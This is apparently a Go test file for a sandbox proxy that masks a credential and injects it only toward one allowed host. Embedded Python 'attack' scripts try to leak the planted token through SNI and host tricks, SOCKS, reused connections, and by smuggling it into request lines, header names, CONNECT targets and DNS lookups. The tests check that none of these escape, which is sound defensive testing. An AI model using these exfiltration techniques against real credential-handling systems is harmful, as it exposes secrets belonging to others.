package hostile

import (
	"encoding/base64"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/srt-sandbox/srt/test/programs/stage"
)

// planted is the value that must arrive at api.test alone, inside TLS.
const planted = "planted-value-of-the-token"

// masking are settings under which TOKEN is masked for api.test.
func masking(r rules, network map[string]any) rules {
	r.Network = map[string]any{"tlsTerminate": map[string]any{}}
	for k, v := range network {
		r.Network[k] = v
	}
	credentials := map[string]any{"envVars": []any{map[string]any{"name": "TOKEN", "mode": "mask", "injectHosts": []string{"api.test"}}}}
	if r.Top != nil {
		for k, v := range r.Top {
			credentials[k] = v
		}
	}
	r.Top = map[string]any{"credentials": credentials}
	return r
}

// secured runs a program of python, which finds the module secure, with the variable TOKEN masked.
func (w *world) secured(s *stage.Stage, at *web, r rules, code string) stage.Result {
	s.T.Helper()
	at.trusted(s)
	s.Env = append(s.Env, "TOKEN="+planted)
	return w.python(s, r, "from secure import *\n"+code)
}

// injected compares by which ways the value came to a server with those by which it is to come. A request says its way in
// the field X-Way and brings the token in X-Token. Every way must have arrived, or the test attacks nothing.
func injected(t *testing.T, r stage.Result, got []arrival, with, without string) {
	t.Helper()
	done(t, r)
	ways := map[bool][]string{}
	for _, a := range got {
		if strings.Contains(a.raw, planted) && a.host != "api.test:"+securePort && a.host != "api.test:"+plainPort {
			t.Errorf("ESCAPE: the value went to %s (%s): %.300q", a.host, a.name, a.raw)
		}
		has := strings.Contains(a.raw, planted)
		if way := a.header.Get("X-Way"); !slices.Contains(ways[has], way) {
			ways[has] = append(ways[has], way)
		}
	}
	for has, want := range map[bool]string{true: with, false: without} {
		wanted := strings.Fields(want)
		slices.Sort(wanted)
		slices.Sort(ways[has])
		if !slices.Equal(ways[has], wanted) {
			t.Errorf("with the value %v:\n got %v\nwant %v\n%s%s", has, ways[has], wanted, r.Stdout, r.Stderr)
		}
	}
}

// TestCRED21_OnlyAtItsHosts: CRED-20, CRED-21, TLS-17, TLS-22, TLS-25, TLS-32: a value goes to the hosts of its
// injectHosts, inside TLS, and nowhere else, by whatever name, address or way a client goes there.
func TestCRED21_OnlyAtItsHosts(t *testing.T) {
	w, at := newWeb(t)
	allow := rules{Allow: []string{"api.test", "other.test", "*.other.test", "xapi.test", good}}
	const attack = `
def ask(way, s, path="/", host="api.test:8443", *lines):
    s.sendall(get(path, host, "X-Way: " + way, "X-Token: " + TOKEN, *lines)); return one(s)
for way, target, sni in [
    ("tunnel", "api.test:8443", "api.test"), ("case", "API.Test:8443", "api.test"), ("other-sni", "api.test:8443", "other.test"),
    ("sni", "other.test:8443", "api.test"), ("literal", GOOD + ":8443", "api.test"), ("below", "api.test.other.test:8443", "api.test"),
    ("longer", "xapi.test:8443", "api.test"), ("no-sni", "other.test:8443", GOOD)]:
    quietly(lambda: ask(way, tunnel(target, sni)))
quietly(lambda: ask("absolute", tunnel("other.test:8443", "api.test"), "https://api.test:8443/"))
quietly(lambda: ask("absolute-in", tunnel("api.test:8443"), "https://other.test:8443/", "other.test:8443"))
for way, sent in [("plain", "http://api.test:8080/"), ("https-uri", "https://api.test:8443/"), ("plain-other", "http://other.test:8080/")]:
    def plain():
        s = via(); s.sendall(get(sent, "api.test:8080", AUTH.strip(), "X-Way: " + way, "X-Token: " + TOKEN)); return one(s)
    quietly(plain)
def reuse():
    s = via()
    for way, host in [("keep-1", "api.test"), ("keep-2", "other.test"), ("keep-3", "api.test")]:
        s.sendall(get("http://" + host + ":8080/", "api.test:8080", AUTH.strip(), "X-Way: " + way, "X-Token: " + TOKEN)); one(s)
quietly(reuse)
def again():
    s = tunnel("other.test:8443", "other.test")
    for way in ("again-1", "again-2"): ask(way, s)
quietly(again)
def socks(host):
    s = socket.create_connection((url.hostname, 1080), 30); s.settimeout(30)
    u, p = url.username.encode(), url.password.encode()
    s.sendall(b"\x05\x01\x02"); s.recv(2)
    s.sendall(b"\x01" + bytes([len(u)]) + u + bytes([len(p)]) + p); s.recv(2)
    s.sendall(b"\x05\x01\x00\x03" + bytes([len(host)]) + host + struct.pack(">H", 8443)); s.recv(10)
    return s
quietly(lambda: ask("socks", shake(socks(b"api.test"), "api.test")))
def captured(host): return shake(tcp(host, 8443), "api.test")
quietly(lambda: ask("captured", captured("api.test")))
quietly(lambda: ask("captured-literal", captured(GOOD)))
quietly(lambda: ask("captured-other", captured("other.test")))
done()`
	const always = "sni literal below longer no-sni absolute plain https-uri plain-other keep-1 keep-2 keep-3 again-1 again-2 socks captured-literal captured-other"
	stage.Each(t, func(s *stage.Stage) {
		at.take()
		r := w.secured(s, at, masking(allow, nil), attack)
		injected(s.T, r, at.take(), "tunnel case other-sni absolute-in captured", always)
	})
	// With allowPlaintextInject the plain path brings it to its host as well, request by request (CRED-20).
	stage.Each(t, func(s *stage.Stage) {
		at.take()
		allow.Top = map[string]any{"allowPlaintextInject": true}
		r := w.secured(s, at, masking(allow, nil), attack)
		injected(s.T, r, at.take(), "tunnel case other-sni absolute-in captured plain keep-1 keep-3 https-uri",
			"sni literal below longer no-sni absolute plain-other keep-2 again-1 again-2 socks captured-literal captured-other")
	})
}

// TestCRED35_NothingEchoesTheValue: CRED-22, CRED-35, REQ-11, TLS-35, VIO-14: no answer, line, log or report of srt holds the value,
// whatever a client does with what stands for it, and it goes out in header values and bodies alone.
func TestCRED35_NothingEchoesTheValue(t *testing.T) {
	w, at := newWeb(t)
	const attack = `from secure import *
T = TOKEN; B = base64.b64encode(("u:" + T).encode()).decode(); H = "api.test:8443"
def raw(text, plain=False):
    s = via() if plain else tunnel(H)
    s.settimeout(20); s.sendall(text.encode()); print(rest(s).decode(errors="replace"), flush=True)
end = "\r\nHost: x\r\nConnection: close\r\nX-Token: " + T + "\r\n\r\n"
for line in ["TRACE / HTTP/1.1", "TRACK / HTTP/1.1", "trace / HTTP/1.1", "Trace /" + T + " HTTP/1.1", T + " / HTTP/1.1", "GET /" + T + " HTTP/1.1", "GET /?t=" + T + " HTTP/1.1",
    "GET /redirect/?t=" + T + " HTTP/1.1", "GET /says/nothing?" + T + " HTTP/1.1", "GET /says/short?" + T + " HTTP/1.1", "GET /denied/" + T + " HTTP/1.1", "GET /x/../" + T + " HTTP/1.1",
    "GET /" + T + " HTTP/9.9", "GET / " + T, "CONNECT " + T + ":1 HTTP/1.1", "OPTIONS * HTTP/1.1", "GET https://" + T + "/ HTTP/1.1", "PRI * HTTP/2.0"]:
    quietly(lambda: raw(line + end))
    quietly(lambda: raw(line.replace(" /", " http://api.test:8080/", 1) + "\r\n" + AUTH.strip() + end, True))
for field in [T + ": x", "X-" + T + ": x", "Host: " + T, "Expect: " + T, "Upgrade: " + T, "Connection: " + T, "Transfer-Encoding: " + T, "Content-Length: " + T, "Content-Encoding: " + T,
    "X-A: " + T + "\r\n " + T, "X-A : " + T, "Authorization: Basic " + B, "Authorization: Basic realm=\"" + T + "\"", "Authorization: AWS4-HMAC-SHA256 Credential=" + T + "/x",
    "X-HTTP-Method-Override: " + T, "Cookie: " + T, "Sec-WebSocket-Protocol: " + T + "\r\nUpgrade: websocket\r\nConnection: upgrade", "Proxy-Authorization: Basic " + B]:
    quietly(lambda: raw("GET /f HTTP/1.1\r\nHost: x\r\n" + field + "\r\n\r\n" if "close" in field else "GET /f HTTP/1.1\r\nConnection: close\r\nHost: x\r\n" + field + "\r\n\r\n"))
    quietly(lambda: raw("GET http://api.test:8080/f HTTP/1.1\r\nConnection: close\r\nHost: x\r\n" + field + "\r\n\r\n", True))
for body in ["Content-Length: 10\r\n\r\n" + T, "Transfer-Encoding: chunked\r\n\r\n" + T, "Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(T) + T]:
    quietly(lambda: raw("POST /b HTTP/1.1\r\nConnection: close\r\nHost: x\r\n" + body))
for target in [T + ":443", "api.test:" + T, T, "api.test@" + T + ":1"]: quietly(lambda: print(connect(target)))
for sni in (T, T + ".test", "_" + T): quietly(lambda: shake(connect(H), sni))
quietly(lambda: socket.create_connection((T[:60], 80), 5)); quietly(lambda: socket.create_connection((T[:60] + ".test", 80), 5))
done()`
	stage.Each(t, func(s *stage.Stage) {
		at.trusted(s)
		at.take()
		s.Env = append(s.Env, "TOKEN="+planted)
		r := masking(rules{Allow: []string{"api.test", "other.test"}}, map[string]any{"requestRules": []any{
			map[string]any{"hosts": []string{"api.test"}, "paths": []string{"/denied/**"}, "action": "deny", "reason": "no"}}})
		r.Top["credentials"].(map[string]any)["allowPlaintextInject"] = true
		line := s.Srt(w.settings(s, r), "/usr/bin/python3", "-c", "import sys; sys.path.insert(0, '"+w.dir+"'); sys.dont_write_bytecode = True\n"+attack)
		line = slices.Insert(line, 1, "--debug", "--violations", s.Dir+"/violations")
		cmd := s.Command(plain(line)...)
		cmd.Env = append(slices.Clone(s.Env), "W="+w.dir)
		end := s.Finish(cmd)
		if !strings.HasSuffix(end.Stdout, "DONE\n") {
			s.T.Fatalf("the attack did not come to its end: %.3000v", end)
		}
		report, err := os.ReadFile(s.Dir + "/violations")
		s.Must(err)
		for what, text := range map[string]string{"what the client was answered": end.Stdout, "standard error": end.Stderr, "the report": string(report)} {
			if at := strings.Index(text, planted); at >= 0 {
				s.T.Errorf("ESCAPE: the value is in %s: %.600q", what, text[max(0, at-300):])
			}
			if strings.Contains(text, base64.StdEncoding.EncodeToString([]byte("u:"+planted))) {
				s.T.Errorf("ESCAPE: the value is in %s", what)
			}
		}
		if len(report) == 0 || !strings.Contains(end.Stderr, "TOKEN") {
			s.T.Error("nothing was reported, or noted: the test shows little")
		}
		with := 0
		for _, a := range at.take() {
			first, fields, _ := strings.Cut(a.raw, "\r\n")
			if strings.Contains(first, planted) {
				s.T.Errorf("ESCAPE: the value is in a request line: %q", first)
			}
			for line := range strings.Lines(fields) {
				if name, _, ok := strings.Cut(line, ":"); ok && strings.Contains(name, planted) {
					s.T.Errorf("ESCAPE: the value is in a name: %q", line)
				}
			}
			if strings.Contains(fields, planted) {
				with++
			}
		}
		if with < 10 {
			s.T.Errorf("only %d requests had the value: %.2000s", with, end.Stdout)
		}
	})
}
